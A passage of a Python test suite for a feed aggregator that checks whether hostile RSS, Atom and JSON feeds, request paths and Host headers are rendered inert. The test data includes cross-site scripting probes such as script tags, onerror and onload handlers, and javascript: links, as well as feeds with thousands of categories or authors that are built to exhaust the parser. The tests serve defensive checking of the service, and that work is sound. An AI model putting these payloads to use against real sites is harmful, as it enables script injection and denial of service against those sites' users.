                assert local or is_http(value), (where, tag, name, value)
    assert styles <= 1, where
    assert not RAW_PAGE_LIVE_TAG.search(html), where


JSON_LD = re.compile(r'<script type="application/ld\+json">([^<]*)</script>')
CANONICAL = re.compile(r'<link rel="canonical" href="([^"]*)">')


def assert_story_page_inert(html: str, where: str) -> None:
    """A story page: one JSON-LD data block that parses, a canonical http(s) link, and
    otherwise nothing beyond what every page may hold."""
    (data,) = JSON_LD.findall(html)
    assert json.loads(data)["@type"] == "NewsArticle", where
    (canonical,) = CANONICAL.findall(html)
    assert is_http(markupsafe.Markup(canonical).unescape()), (where, canonical)
    assert_page_inert(CANONICAL.sub("", JSON_LD.sub("", html)), where)


def assert_strict_csp(response: TestResponse, where: str) -> None:
    policy = response.headers.get("Content-Security-Policy", "")
    directives = {
        name.lower(): values
        for name, *values in (part.split() for part in policy.split(";") if part.strip())
    }
    assert directives.get("default-src") == ["'none'"], (where, policy)
    scripts = directives.get("script-src", directives["default-src"])
    assert not {"'unsafe-inline'", "'unsafe-eval'", "*", "data:", "http:", "https:"} & set(
        scripts
    ), (where, policy)
    assert directives.get("base-uri") == ["'none'"], (where, policy)
    assert directives.get("frame-ancestors") == ["'none'"], (where, policy)
    assert response.headers.get("X-Content-Type-Options") == "nosniff", where


def check_rss(body: bytes, where: str) -> list[str]:
    """Every live position of an RSS feed is inert; returns the items' HTML."""
    parsed = feedparser.parse(body)
    assert parsed.bozo == 0, (where, parsed.get("bozo_exception"))
    root = ET.fromstring(body)
    for element in root.iter():
        namespace, _, local = element.tag.rpartition("}")
        assert namespace.lstrip("{") not in LIVE_NAMESPACES, (where, element.tag)
        assert local.lower() not in XML_LIVE_TAGS, (where, element.tag)
        for name, value in element.attrib.items():
            if name in ("href", "url", "domain"):
                assert is_http(value), (where, element.tag, name, value)
    fragments = []
    for item in root.iter("item"):
        for tag in ("description", f"{CONTENT}encoded"):
            text = item.findtext(tag) or ""
            assert_inert(text, f"{where} {tag}")
            fragments.append(text)
        link = item.findtext("link")
        assert link is None or is_http(link), (where, link)
        guid = item.find("guid")
        if guid is not None and guid.get("isPermaLink", "true") == "true":
            assert is_http(guid.text), (where, guid.text)
    return fragments


def check_atom(body: bytes, where: str) -> list[str]:
    parsed = feedparser.parse(body)
    assert parsed.bozo == 0, (where, parsed.get("bozo_exception"))
    root = ET.fromstring(body)
    for element in root.iter():
        namespace, _, local = element.tag.rpartition("}")
        assert namespace.lstrip("{") not in LIVE_NAMESPACES, (where, element.tag)
        assert local.lower() not in XML_LIVE_TAGS, (where, element.tag)
        if "href" in element.attrib:
            assert is_http(element.get("href")), (where, element.tag, element.attrib)
    fragments = []
    for entry in root.iter(f"{ATOM}entry"):
        for tag in ("title", "summary", "content"):
            for construct in entry.iter(f"{ATOM}{tag}"):
                kind = construct.get("type", "text")
                assert kind in ("text", "html"), (where, tag, kind)
                assert construct.get("src") is None, (where, tag)
                if kind == "html":
                    assert_inert(construct.text or "", f"{where} {tag}")
                    fragments.append(construct.text or "")
    return fragments


def check_json(body: bytes, where: str) -> list[str]:
    feed = json.loads(body)
    fragments = []
    for item in feed["items"]:
        assert_inert(item["content_html"], f"{where} content_html")
        fragments.append(item["content_html"])
        for key in ("url", "external_url", "image", "banner_image"):
            assert key not in item or is_http(item[key]), (where, key, item.get(key))
        assert not item["id"].lower().startswith(("javascript:", "data:")), (where, item["id"])
    for key in ("home_page_url", "feed_url"):
        assert is_http(feed[key]), (where, key)
    return fragments


CHECKERS = {"rss": check_rss, "atom": check_atom, "json": check_json}


def _admin_login(client: FlaskClient) -> None:
    page = client.get("/admin/login")
    token = re.search(r'name="csrf_token" value="([^"]+)"', page.get_data(as_text=True))
    assert token is not None
    response = client.post(
        "/admin/login", data={"csrf_token": token.group(1), "token": ADMIN_TOKEN, "next": "/admin/"}
    )
    assert response.status_code == 302, response.status_code


def test_hostile_markup_never_goes_live(
    store: Store, settings: Settings, feeds_dir: Path, fetcher: Fetcher, now: datetime
) -> None:
    """Every vector, in RSS (well-formed and malformed) and Atom (html, xhtml,
    text), ingested and published: every served feed format, the public pages
    and the admin pages carry the items' text and nothing live; links are
    http(s) only and every page sends a strict Content-Security-Policy."""
    error_markup = "<script>alert('reason')</script>"
    routes = {
        "/evil.rss": Reply(
            body=_hostile_rss("rss"), headers={"Content-Type": "application/rss+xml"}
        ),
        "/evil-loose.rss": Reply(body=_hostile_rss("loose", well_formed=False)),
        "/evil.atom": Reply(body=_hostile_atom(), headers={"Content-Type": "application/atom+xml"}),
        "/evil-error": Reply(
            raw=f"HTTP/1.1 500 {error_markup}\r\nConnection: close\r\n\r\n".encode()
        ),
        "/evil-redirect": Reply.redirect(f"gopher://x/{error_markup}"),
    }
    with LoopbackServer(routes) as server:
        # Real catalogue entries, so the admin pages show these sources too.
        with (feeds_dir / "sources.toml").open("a", encoding="utf-8") as handle:
            for source_id, path, desk in (
                ("evil-rss", "/evil.rss", "nym"),
                ("evil-atom", "/evil.atom", "europe"),
                ("evil-loose", "/evil-loose.rss", "europe"),
                ("evil-error", "/evil-error", "nym"),
                ("evil-redirect", "/evil-redirect", "nym"),
            ):
                handle.write(
                    f'\n[{source_id}]\nkind = "feed"\nurl = "{server.url(path)}"\n'
                    f'desk = "{desk}"\nevery = "5m"\ntopics = ["security"]\n'
                    f'title = "{source_id} <img src=x onerror=alert(1)>"\n'
                )
        catalog = load_catalog(feeds_dir)
        results = run(store, catalog, fetcher, now)
    evil_feeds = ("evil-rss", "evil-atom", "evil-loose")
    assert all(results[name].ok for name in evil_feeds), results
    assert results["evil-rss"].problems == results["evil-atom"].problems == ()
    assert any("malformed" in problem for problem in results["evil-loose"].problems)
    assert error_markup in (results["evil-error"].error or "")
    assert error_markup in (results["evil-redirect"].error or "")
    stored = store.list_articles(limit=None)
    evil = [a for a in stored if a.source.startswith("evil-")]
    assert len(evil) == sum(results[name].new for name in evil_feeds) >= 3 * len(VECTORS)

    app, paths = publish_and_serve(store, catalog, settings, now, feed_size=200)
    client = app.test_client()
    seen_html = []
    for path in paths:
        body = get_ok(client, path).data
        seen_html += CHECKERS[path.rpartition(".")[2]](body, path)
    everything = "\n".join(seen_html)
    for marker in [*MARKERS, "keep xhtml", "keep xmlbase", "keep split"]:
        assert marker in everything, marker  # the items arrived, only their weapons did not

    # No link in any article is anything but http(s).
    assert all(a.url is None or is_http(a.url) for a in evil)
    assert not any(a.url for a in evil if "link" in a.guid)
    # Titles are plain text: markup from an HTML title is gone, not escaped.
    titles = {a.guid: a.title for a in evil}
    assert titles["urn:atom:titles"] == "x"
    assert titles["urn:atom:xhtml"] == "xhtml"
    # Tag-like text in a plain-text title is dropped too (issue 10 §5): a reader
    # that renders RSS titles as HTML has nothing to run, a validator nothing to flag.
    assert titles["rss-title"] == titles["urn:atom:plain-title"] == TITLE_TEXT
    all_json = json.loads(get_ok(client, "/feeds/all.json").data)
    assert TITLE_TEXT in [item["title"] for item in all_json["items"]]
    assert not any("<" in a.title for a in evil)

    pages = [
        "/",
        *(f"/desks/{d}" for d in catalog.desks),
        *(f"/topics/{t}" for t in catalog.topics),
    ]
    for page in pages:
        response = get_ok(client, page)
        assert response.mimetype == "text/html"
        assert_strict_csp(response, page)
        assert_page_inert(response.get_data(as_text=True), page)
    assert str(markupsafe.escape(TITLE_TEXT)) in get_ok(client, "/desks/nym").get_data(True)
    for article in evil:  # every story's own page: its JSON-LD and metadata hold nothing live
        where = f"/articles/{article.id}"
        response = get_ok(client, where)
        assert_strict_csp(response, where)
        assert_story_page_inert(response.get_data(as_text=True), where)

    _admin_login(client)
    admin_pages = ["/admin/", *(f"/admin/sources/{s}" for s in catalog.sources if "evil" in s)]
    for page in admin_pages:
        response = get_ok(client, page)
        assert_strict_csp(response, page)
        html = response.get_data(as_text=True)
        assert_page_inert(html, page)
    error_page = get_ok(client, "/admin/sources/evil-error").get_data(as_text=True)
    assert str(markupsafe.escape(error_markup)) in error_page  # shown, as text


# Requests carry input too: a path or a Host header full of markup.
HOSTILE_PATHS = [
    ("desk-img", "/desks/<img src=x onerror=alert(1)>", "unknown desk"),
    ("topic-img", "/topics/%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "unknown topic"),
    ("feed-svg", "/feeds/desks/<svg onload=alert(1)>.rss", "unknown desk"),
    ("format-script", "/feeds/all.<script>alert(1)</script>", "unknown feed format"),
]


@pytest.mark.parametrize(
    ("path", "reason"),
    [row[1:] for row in HOSTILE_PATHS],
    ids=[row[0] for row in HOSTILE_PATHS],
)
def test_a_404_quoting_a_hostile_path_cannot_become_html(
    client: FlaskClient, path: str, reason: str
) -> None:
    response = client.get(path)
    assert response.status_code == 404
    assert response.mimetype == "text/plain"
    assert reason in response.get_data(as_text=True)
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"] == "default-src 'none'"


HOSTILE_HOSTS = [
    ("markup", 'evil.example"><script>alert(1)</script>'),
    ("path-in-host", "evil.example/<script>"),
    ("bad-port", "evil.example:99999999"),
    ("javascript", "javascript:alert(1)"),
    ("plain-other-host", "other.example:8080"),
]


@pytest.mark.parametrize(
    "host", [row[1] for row in HOSTILE_HOSTS], ids=[r[0] for r in HOSTILE_HOSTS]
)
def test_a_hostile_host_header_never_reaches_a_feed(client: FlaskClient, host: str) -> None:
    """Without FEEDSVC_BASE_URL links use the server's own address and the hosts
    the operator named; any other Host is refused before anything is rendered."""
    for fmt in CHECKERS:
        response = client.get(f"/feeds/all.{fmt}", headers={"Host": host})
        assert response.status_code == 400, (host, fmt)
        assert b"<" not in response.data and b"evil" not in response.data
        assert response.mimetype == "text/plain"
    page = client.get("/", headers={"Host": host})
    assert page.status_code == 400
    assert_page_inert(page.get_data(as_text=True), f"{host} /")


# --------------------------------------------------------------------------- 3. bad text

BAD_WIRE_FILES: dict[str, bytes] = {
    "controls.txt": b"Title with \x01control\x07 chars\x1b[31m\n\n"
    b"Published : 10:00, 31 February 2025\n\n"
    b"Body with a \x0bvertical tab, &#0; typed and \x7f delete.\n",
    "year-9999.txt": b"Year nine thousand\n\nPublished : 10:00, 23 June 9999\n\nBody.\n",
    "surrogates.txt": b"Surrogate \xed\xa0\x80 bytes\n\n"
    b"Body with \xed\xbf\xbf and \xf4\x90\x80\x80.\n",
    "cp1252.txt": b"Caf\xe9 cr\xe8me \x93quoted\x94\n\nBody in Windows-1252 \x80uro.\n",
    "bom-crlf.txt": b"\xef\xbb\xbfBOM title\r\n\r\n"
    b"Published : 21:09, 23 June 2025\r\n\r\nBody.\r\n",
    "nul.txt": b"Binary\x00title\n\nbody\n",
    # a file name that is not UTF-8: Python sees a lone surrogate in it
    os.fsdecode(b"caf\xe9-name.txt"): b"Name not in UTF-8\n\nBody.\n",
}


def _bad_text_rss() -> bytes:
    items = [
        rss_item("t-invalid-utf8", "Invalid \udcff bytes", date="Sat, 31 Feb 2025 10:00:00 GMT"),
        rss_item("t-year-9999", "Far future", date="Fri, 31 Dec 9999 23:59:59 GMT"),
        rss_item("t-year-0", "Year zero", date="Mon, 01 Jan 0000 00:00:00 GMT"),
        "<item><guid>t-refs</guid><title>Refs &#0; &#x1; &#xD800; &#xDFFF; &#x110000; end</title>"
        "<description>a&amp;#0;b &amp;#xD800; c</description>"
        "<content:encoded><![CDATA[<p>x&#0;y&#xD800;z&#1;</p>]]></content:encoded></item>",
        "<item><guid>t-raw-controls</guid><title>Raw \x01\x08\x0b\x0c\x1f\x7f\x85 controls</title>"
        "<description>d\x00e</description></item>",
    ]
    return rss("".join(items))  # the lone surrogate above goes out as the raw byte 0xFF


def _legacy_rss() -> bytes:
    """Windows-1252 bytes, no encoding declared, no charset header."""
    return (
        '<?xml version="1.0"?>\n<rss version="2.0"><channel><title>Legacy</title>'
        "<link>https://legacy.example/</link><description>d</description>"
        "<item><guid>legacy</guid><title>Caf\xe9 \u201cquoted\u201d \u20acuro</title>"
        "<description>na\xefve</description></item></channel></rss>"
    ).encode("cp1252")


def _bad_text_atom() -> bytes:
    return (
        '<?xml version="1.0" encoding="utf-16"?>\n<feed xmlns="http://www.w3.org/2005/Atom">'
        "<title>t</title><id>urn:bad</id><updated>2025-06-23T19:09:00Z</updated>"
        "<entry><id>urn:bad:1</id><title>UTF-16 &#xD800; lone</title>"
        "<updated>9999-12-31T23:59:59Z</updated><content type='html'>&lt;p&gt;a&amp;#0;b"
        "&lt;/p&gt;</content></entry><entry><id>urn:bad:2</id><title>Thirty-first Feb</title>"
        "<updated>2025-02-31T10:00:00Z</updated><summary>s</summary></entry></feed>"
    ).encode("utf-16")


# (id, a character reference in an item title, the document's codec, the title read)
CHARREF_ROWS: list[tuple[str, str, str, str]] = [
    ("hex-surrogate", "&#xD800;", "utf-8", "a \ufffd b"),
    ("decimal-surrogate", "&#57343;", "utf-8", "a \ufffd b"),
    ("zero-padded-surrogate", "&#x0000dc00;", "utf-8", "a \ufffd b"),
    ("past-unicode", "&#x110000;", "utf-8", "a \ufffd b"),
    ("far-past-unicode", "&#99999999999999999999;", "utf-8", "a \ufffd b"),
    ("surrogate-pair-as-two-refs", "&#xD83D;&#xDE00;", "utf-8", "a \ufffd\ufffd b"),
    ("utf-16-le", "&#xD800;", "utf-16-le", "a \ufffd b"),
    ("utf-16-be", "&#55296;", "utf-16-be", "a \ufffd b"),
    ("utf-32", "&#x110000;", "utf-32", "a \ufffd b"),
    ("astral-is-kept", "&#x1F600;", "utf-8", "a \U0001f600 b"),
    ("bmp-is-kept", "&#xFFFD;&#8212;", "utf-8", "a \ufffd\u2014 b"),
]


@pytest.mark.parametrize(
    ("reference", "codec", "title"),
    [row[1:] for row in CHARREF_ROWS],
    ids=[row[0] for row in CHARREF_ROWS],
)
def test_impossible_character_references_become_replacement_characters(
    reference: str, codec: str, title: str
) -> None:
    """Such a reference made feedparser's fallback parser raise a UnicodeEncodeError
    or ValueError, which escaped the stages and stopped the whole run."""
    document = (
        f'<?xml version="1.0" encoding="{codec}"?>\n<rss version="2.0"><channel><title>t'
        f"</title><item><guid>g</guid><title>a {reference} b</title></item></channel></rss>"
    )
    parsed = parse_feed(Document("https://news.example/feed", document.encode(codec)))
    assert [item.title for item in parsed.items] == [title]
    assert parsed.problems == ()  # the strict parser read it: nothing else was lost


def test_a_reference_too_long_to_read_is_a_parse_error() -> None:
    document = rss(f"<item><guid>g</guid><title>a &#{'9' * 5000}; b</title></item>")
    with pytest.raises(ParseError, match="not a feed: unreadable"):
        parse_feed(Document("https://news.example/feed", document))


def assert_clean_output(body: bytes, where: str) -> str:
    text = body.decode("utf-8")  # strict: every published byte is UTF-8
    assert not CONTROL.search(text), (where, CONTROL.findall(text))
    return text


def test_bad_text_is_cleaned_and_every_output_validates(
    store: Store,
    catalog: Catalog,
    settings: Settings,
    fetcher: Fetcher,
    now: datetime,
    tmp_path: Path,
) -> None:
    """Controls, bad character references, lone surrogates, invalid and
    undeclared encodings and impossible dates, from wire files and feeds:
    ingested, cleaned, and every published byte is UTF-8 that parses back."""
    inbox = tmp_path / "bad-inbox"
    inbox.mkdir()
    for name, content in BAD_WIRE_FILES.items():
        (inbox / name).write_bytes(content)
        settle(inbox / name)
    routes = {
        "/bad.rss": Reply(body=_bad_text_rss(), headers={"Content-Type": "application/rss+xml"}),
        "/legacy.rss": Reply(body=_legacy_rss(), headers={"Content-Type": "application/xml"}),
        "/bad.atom": Reply(body=_bad_text_atom()),
    }
    with LoopbackServer(routes) as server:
        extra = (
            Source(
                id="bad-wire",
                kind="files",
                desk="nym",
                every=timedelta(minutes=5),
                path=inbox,
                timezone="Europe/Brussels",
            ),
            feed_source("bad-rss", server.url("/bad.rss")),
            feed_source("legacy", server.url("/legacy.rss"), desk="europe"),
            feed_source("bad-atom", server.url("/bad.atom"), desk="europe"),
        )
        catalog = with_sources(catalog, *extra)
        results = run(store, catalog, fetcher, now)

    for source_id in ("bad-wire", "bad-rss", "legacy", "bad-atom"):
        assert results[source_id].ok, results[source_id]
    assert results["bad-wire"].new == len(BAD_WIRE_FILES) - 1
    assert any(p.startswith("nul.txt: binary file") for p in results["bad-wire"].problems)
    assert results["bad-rss"].new == 5 and results["bad-atom"].new == 2

    articles = {a.guid: a for a in store.list_articles(limit=None)}
    for article in articles.values():
        for value in (article.title, article.summary, article.content_html, article.author or ""):
            assert not CONTROL.search(value), (article.guid, value)
    assert articles["controls.txt"].title == "Title with control chars[31m"
    assert articles["cp1252.txt"].title == "Café crème “quoted”"
    assert articles["legacy"].title == "Café “quoted” €uro"
    assert articles["t-refs"].title.startswith("Refs") and articles["t-refs"].title.endswith("end")
    assert articles["bom-crlf.txt"].title == "BOM title"
    # Impossible and absurd dates mean "undated": first seen now (undated items of
    # one fetch are a second apart, in the source's order), not year 9999.
    undated = (
        "controls.txt",
        "year-9999.txt",
        "t-invalid-utf8",
        "t-year-9999",
        "t-year-0",
        "urn:bad:1",
        "urn:bad:2",
    )
    for guid in undated:
        assert not articles[guid].dated, guid
        assert now - timedelta(minutes=1) < articles[guid].published <= now, guid
    assert articles["bom-crlf.txt"].published == datetime(2025, 6, 23, 19, 9, tzinfo=UTC)

    app, paths = publish_and_serve(store, catalog, settings, now)
    client = app.test_client()
    for path in paths:
        text = assert_clean_output(get_ok(client, path).data, path)
        if path.endswith(".json"):
            json.loads(text)
        else:
            parsed = feedparser.parse(text.encode("utf-8"))
            assert parsed.bozo == 0, (path, parsed.get("bozo_exception"))
            ET.fromstring(text.encode("utf-8"))
    for page in ["/", "/desks/nym", "/desks/europe", "/feeds.opml"]:
        assert_clean_output(get_ok(client, page).data, page)


# --------------------------------------------------------------------------- 4. bad identity

DUPLICATE_FIRST = rss_item("dup", "Duplicate first", "<p>first version</p>")
DUPLICATE_SECOND = rss_item("dup", "Duplicate second", "<p>second version</p>")
NAMELESS = [  # no guid, no link: identified by their words
    rss_item(None, "Nameless one", "<p>one</p>", date=None),
    rss_item(None, "Nameless two", "<p>two</p>", date="Mon, 23 Jun 2025 10:00:00 +0000"),
    rss_item(None, "", "<p>only a description</p>", date=None),
]
DATED = rss_item("dated", "Dated", "<p>dated</p>", link="https://news.example/dated")
LATE = rss_item("late", "Late", "<p>late</p>", date="Tue, 24 Jun 2025 10:00:00 +0000")


def test_bad_identity_gives_no_duplicates_and_stable_ids(
    store: Store, catalog: Catalog, settings: Settings, fetcher: Fetcher, now: datetime
) -> None:
    """A guid repeated with other content, items with neither guid nor link, and
    items that leave the feed (and, with three per feed, the published feeds)
    and come back: one article each, the same ids, the same first-seen times."""
    everything = rss(DUPLICATE_FIRST + DUPLICATE_SECOND + "".join(NAMELESS) + DATED)
    # (what the source serves, how many new articles that may make)
    versions = [
        ("all", everything, 5),  # six items, one guid twice: five articles
        # another body (so it is parsed again), the same items and the same feed title
        ("all again", everything.replace(b"<description>d<", b"<description>d again<"), 0),
        ("dropped", rss(LATE), 1),
        (
            "re-listed",
            rss(DUPLICATE_FIRST + DUPLICATE_SECOND + "".join(NAMELESS) + DATED + LATE),
            0,
        ),
    ]
    seen: list[dict[str, tuple[str, datetime]]] = []
    with LoopbackServer() as server:
        source = feed_source("identity", server.url("/feed"))
        catalog = with_sources(catalog, source)
        for number, (label, body, new) in enumerate(versions):
            server.route("/feed", Reply(body=body, etag=f'"{label}"'))
            result = run(store, catalog, fetcher, now + timedelta(hours=number))["identity"]
            assert (result.ok, result.new, result.updated) == (True, new, 0), (label, result)
            articles = store.list_articles(source="identity", limit=None)
            guids = [a.guid for a in articles]
            assert len(guids) == len(set(guids)), (label, guids)
            seen.append({a.guid: (a.id, a.published) for a in articles})

    first, again, dropped, relisted = seen
    assert len(first) == 5 and again == first
    assert dropped == relisted and set(relisted) == set(first) | {"late"}
    # Same ids, and undated items keep their first-seen time: coming back
    # does not put them at the top of the feed again.
    assert {guid: relisted[guid] for guid in first} == first
    (duplicate,) = [a for a in store.list_articles(source="identity") if a.guid == "dup"]
    assert duplicate.title == "Duplicate first"  # the first occurrence wins, every time

    app, paths = publish_and_serve(store, catalog, settings, now, feed_size=3)
    client = app.test_client()
    for path in paths:
        body = get_ok(client, path).data
        if path.endswith(".json"):
            ids = [item["id"] for item in json.loads(body)["items"]]
        else:
            ids = [entry.id for entry in feedparser.parse(body).entries]
        assert len(ids) == len(set(ids)), (path, ids)


# Hex that does not compress: a key PostgreSQL cannot index once it passes ~2.7 KB.
RANDOM_GUID = "".join(hashlib.sha256(str(n).encode()).hexdigest() for n in range(320))
LONG_TAG = "en-" + "-".join(["abcdefgh"] * 10)

# (id, the feed, what its one article's guid starts with, its language)
OVERSIZE_ROWS: list[tuple[str, bytes, str, str | None]] = [
    ("20-kb-guid", rss(rss_item(RANDOM_GUID, "Long guid")), "sha256-guid:", None),
    ("multibyte-guid", rss(rss_item("é" * 600, "Wide guid")), "sha256-guid:", None),
    ("guid-at-the-limit", rss(rss_item("g" * 1024, "Guid at limit")), "g" * 1024, None),
    (
        "long-language-tag",
        rss(rss_item("lang", "Language"), channel=f"<language>{LONG_TAG}</language>"),
        "lang",
        None,
    ),
    (
        "normal-language-tag",
        rss(rss_item("lang", "Language"), channel="<language>EN_gb</language>"),
        "lang",
        "en-gb",
    ),
]


@pytest.mark.parametrize(
    ("body", "guid", "language"),
    [row[1:] for row in OVERSIZE_ROWS],
    ids=[row[0] for row in OVERSIZE_ROWS],
)
def test_oversized_identity_and_tags_fit_every_database(
    store: Store,
    catalog: Catalog,
    fetcher: Fetcher,
    now: datetime,
    body: bytes,
    guid: str,
    language: str | None,
) -> None:
    """A 20 KB guid made PostgreSQL refuse the whole batch, every time, and a
    long language tag overflowed its column and stopped the run."""
    with LoopbackServer({"/feed": Reply(body=body)}) as server:
        source = feed_source("oversize", server.url("/feed"))
        catalog = with_sources(catalog, source)
        first = run(store, catalog, fetcher, now)["oversize"]
        # one more byte so the body is parsed again (an identical body is skipped)
        server.route("/feed", Reply(body=body + b"\n"))
        again = run(store, catalog, fetcher, now + timedelta(hours=1))["oversize"]
    assert (first.ok, first.new) == (True, 1), first
    assert (again.ok, again.new, again.unchanged) == (True, 0, 1), again  # the same id
    (article,) = store.list_articles(source="oversize")
    assert article.guid.startswith(guid)
    assert len(article.guid.encode()) <= 1024
    assert article.language == language


# Guids that differ only where plain text would not see it: each is its own item (issue 10).
TWIN_GUIDS = ["a  b", "a b", "x&amp;y", "x&y", "q&lt;", "q<", "tab\tinside", "tab inside"]
CONTROL_TWINS = ["ctl\x01", "ctl"]  # a control character makes the XML malformed


def test_guids_that_differ_by_a_space_an_entity_or_a_control_are_different_items(
    store: Store, catalog: Catalog, fetcher: Fetcher, now: datetime
) -> None:
    """Read as plain text, "a  b" and "a b" were one guid: one of the items was lost.

    The second fetch is malformed (feedparser's loose parser reads it, and
    hands ids over XML-escaped): every guid is still the same.
    """
    every = (*TWIN_GUIDS, *CONTROL_TWINS)
    well_formed = rss("".join(rss_item(guid, f"Item {n}") for n, guid in enumerate(TWIN_GUIDS)))
    malformed = rss("".join(rss_item(guid, f"Item {n}") for n, guid in enumerate(every)))
    with LoopbackServer({"/feed": Reply(body=well_formed)}) as server:
        source = feed_source("twins", server.url("/feed"))
        catalog = with_sources(catalog, source)
        first = run(store, catalog, fetcher, now)["twins"]
        server.route("/feed", Reply(body=malformed))
        again = run(store, catalog, fetcher, now + timedelta(hours=1))["twins"]
    stored = {a.guid: a.title for a in store.list_articles(source="twins", limit=None)}
    assert (first.ok, first.new) == (True, len(TWIN_GUIDS)), first.line()
    assert "malformed" in again.line()
    assert (again.new, again.unchanged) == (2, len(TWIN_GUIDS)), again.line()
    assert stored == {exact_guid(guid): f"Item {n}" for n, guid in enumerate(every)}


def _many(n: int, tag: str) -> str:
    return "".join(f"<{tag}>c{i}</{tag}>" for i in range(n))


_ITUNES = ' xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd"'
_DC = ' xmlns:dc="http://purl.org/dc/elements/1.1/"'
_KEYWORDS = "<itunes:keywords>" + ",".join(f"k{i}" for i in range(5000)) + "</itunes:keywords>"
# (id, the feed): each item would cost feedparser the square of its categories
CATEGORY_BOMBS = [
    ("5000 <category>", rss(rss_item("c", "Cats", extra=_many(5000, "category")))),
    ("5000 <dc:subject>", rss(rss_item("s", "Subj", extra=_many(5000, "dc:subject")), "", _DC)),
    ("5000 itunes keywords", rss(rss_item("k", "Keys", extra=_KEYWORDS), "", _ITUNES)),
    ("5000 on the feed", rss(rss_item("f", "Feed"), channel=_many(5000, "category"))),
]


@pytest.mark.parametrize("body", [r[1] for r in CATEGORY_BOMBS], ids=[r[0] for r in CATEGORY_BOMBS])
def test_an_item_with_thousands_of_categories_costs_what_a_hundred_do(body: bytes) -> None:
    """feedparser checks each category against all it has: 50,000 took minutes."""
    raw = feedparser.parse(body)  # feedsvc.parse bounds feedparser's own list
    for context in (raw.feed, *raw.entries):
        assert len(context.get("tags", [])) <= MAX_CATEGORIES
    (item,) = parse_feed(Document(name="https://news.example/feed", content=body)).items
    assert len(item.categories) <= MAX_CATEGORIES


_AT_SIGNS = "a@" * 500_000  # an address-like name: person_name's patterns once took hours
_CREATORS = "".join(f"<dc:creator>Person {n}</dc:creator>" for n in range(10_000))
# (id, the feed): each item's credit
AUTHOR_BOMBS = [
    ("a long name", rss(rss_item("a", "A", extra=f"<author>Dr. {'Long Name ' * 5000}</author>"))),
    ("1 MB of a@", rss(rss_item("b", "B", extra=f"<author>{_AT_SIGNS}</author>"))),
    ("10,000 creators", rss(rss_item("c", "C", extra=_CREATORS), "", _DC)),
    (
        "JSON: 1 MB of a@ and 10,000 authors",
        json.dumps(
            {
                "version": "https://jsonfeed.org/version/1.1",
                "title": "J",
                "items": [
                    {
                        "id": "d",
                        "title": "D",
                        "authors": [{"name": _AT_SIGNS}]
                        + [{"name": f"P{n}"} for n in range(10_000)],
                    }
                ],
            }
        ).encode(),
    ),
]


@pytest.mark.parametrize("body", [r[1] for r in AUTHOR_BOMBS], ids=[r[0] for r in AUTHOR_BOMBS])
def test_a_hostile_author_is_credited_within_its_ceiling(body: bytes) -> None:
    # A safety net, not a timing assertion: a quadratic pattern would run for hours.
    faulthandler.dump_traceback_later(120, exit=True)
    try:
        (item,) = parse_feed(Document(name="https://news.example/feed", content=body)).items
        now = datetime(2025, 7, 1, tzinfo=UTC)
        article = normalise(item, CORPUS_SOURCE, DESKS, TOPICS, now)
    finally:
        faulthandler.cancel_dump_traceback_later()
    assert article.author is not None and 0 < len(article.author) <= AUTHOR_LIMIT


# --------------------------------------------------------------------------- 5. the corpus

CORPUS_SOURCE = Source(
    id="corpus", kind="feed", desk="nym", every=timedelta(minutes=5), url="https://c.example/"
)
DESKS = {"nym": Desk(id="nym", title="NYM")}
TOPICS = {
    "security": Topic(id="security", title="Security", match=("NATO", "security")),
    "trade": Topic(id="trade", title="Trade", match=("tariffs",), categories=("Trade",)),
}
SPEC = FeedSpec(
    path="feeds/all",
    title="All <b>articles</b> & more",
    description="Everything",
    home_path="",
    ttl=timedelta(minutes=5),
)
BASE = "http://localhost/"


def render_and_check(articles: list[Article], where: str) -> None:
    """All three formats render and parse back; nothing a reader gets is live or dirty."""
    for fmt in FORMATS:
        body = render(SPEC, articles, BASE, fmt)
        text = assert_clean_output(body, f"{where} {fmt}")
        if fmt == "json":
            items = json.loads(text)["items"]
            assert len(items) == len(articles), where
            for item in items:
                assert_inert(item["content_html"], where)
        else:
            parsed = feedparser.parse(body)
            assert parsed.bozo == 0, (where, fmt, parsed.get("bozo_exception"))
            assert len(parsed.entries) == len(articles), (where, fmt)


def _run_document(content: bytes, headers: Mapping[str, str], where: str) -> int:
    """parse -> normalise -> render for one document; the number of articles it gave."""
    try:
        parsed = parse_feed(Document("https://corpus.example/feed.xml", content, headers))
    except ParseError as error:
        assert str(error), where
        return 0
    articles = []
    for item in parsed.items:
        try:
            articles.append(
                normalise(item, CORPUS_SOURCE, DESKS, TOPICS, datetime(2025, 7, 1, tzinfo=UTC))
            )
        except ParseError:
            continue
    render_and_check(articles, where)
    return len(articles)


def test_corpus_of_hostile_documents_never_crashes_or_hangs() -> None:
    """Every corpus document is a ParseError or articles whose feeds parse back."""
    cases = list(corpus())
    assert len(cases) >= 300
    names = " ".join(case.name for case in cases)
    for dimension in (CORPUS_FORMATS, ENCODINGS, BREAKAGES):
        assert all(f"-{value}-" in names for value in dimension)
    assert len({case.content for case in cases}) == len(cases)  # no two alike

    # A safety net, not a timing assertion: if any document hung the parser,
    # dump every thread's stack and stop the run instead of waiting forever.
    faulthandler.dump_traceback_later(120, exit=True)
    failures: list[str] = []
    outcomes: Counter[str] = Counter()
    try:
        for case in cases:
            try:
                count = _run_document(case.content, case.headers, case.name)
            except Exception as error:  # collected, reported together below
                failures.append(f"{case.name}: {type(error).__name__}: {error!s:.300}")
                continue
            outcomes["articles" if count else "no articles"] += 1
    finally:
        faulthandler.cancel_dump_traceback_later()
    assert not failures, "\n".join(failures[:20])
    assert outcomes["articles"] >= len(cases) // 2, outcomes  # the corpus reaches the renderer


# --------------------------------------------------------------------------- 6. properties

WIRE_SOURCE = Source(
    id="wire", kind="files", desk="nym", every=timedelta(minutes=5), path=Path("inbox")
)
_WIRE_LINES = st.sampled_from(
    [
        "Title", "NYM Desk", "Published : 21:09, 23 June 2025",
        "Published : 10:00, 31 February 2025", "Updated : 10:00, 23 June 9999", "• bullet",
        "- dash", "Share:", "Facebook", "", "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "&#0; &#xD800; &lt;b&gt;", "javascript:alert(1)",
        "Heading", "\t", "€ “q” ’", "\x01\x07\x1b", "\ufeff",
    ]
)  # fmt: skip
_WIRE_TITLES = [
    "Title",
    "<script>alert(1)</script> in a title",
    "Caf\u00e9 \x01 cr\u00e8me \ud800 &#0;",
    "<b>bold</b> &amp; &lt;i&gt;",
]
